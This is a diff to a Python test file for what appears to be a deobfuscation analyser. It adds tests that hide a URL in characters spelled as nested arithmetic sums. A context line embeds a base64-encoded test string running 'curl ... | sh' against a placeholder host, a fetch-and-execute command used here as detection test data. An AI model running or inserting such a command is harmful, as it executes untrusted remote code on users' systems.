@@ -157,6 +157,24 @@ def test_xor_with_a_literal_key_is_undone() -> None:
     assert texts(source)["https://example.invalid/x"] == "xor+bytes"
 
 
+def test_characters_spelled_as_sums_are_added_up() -> None:
+    word = "https://example.invalid/" * 3
+    sums = {c: f"((({ord(c) // 4} << 1) + ({ord(c) // 2 % 2})) << 1) + {ord(c) % 2}" for c in word}
+    assert word in texts(f"u = ''.join(map(chr, [{', '.join(sums[c] for c in word)}]))\n")
+
+
+def test_a_sum_seen_before_is_nested_as_deep_as_any_other() -> None:
+    word = "https://example.invalid/"
+    found = []
+    for deep in range(10, 35):
+        codes = ", ".join([f"{'(' * deep}(100 + 4){')' * deep}", *(str(ord(c)) for c in word[1:])])
+        source = f"x = ''.join(map(chr, [{codes}]))\n"
+        found.append(word in texts(source))
+        assert (word in texts("y = bytes([(100 + 4)])\n" + source)) == found[-1]
+    assert found[0]
+    assert not found[-1]
+
+
 def test_code_in_strings_is_analysed_in_place() -> None:
     inner = "import os\nos.system('curl -s https://example.invalid/x | sh')"
     coded = base64.b64encode(inner.encode()).decode()
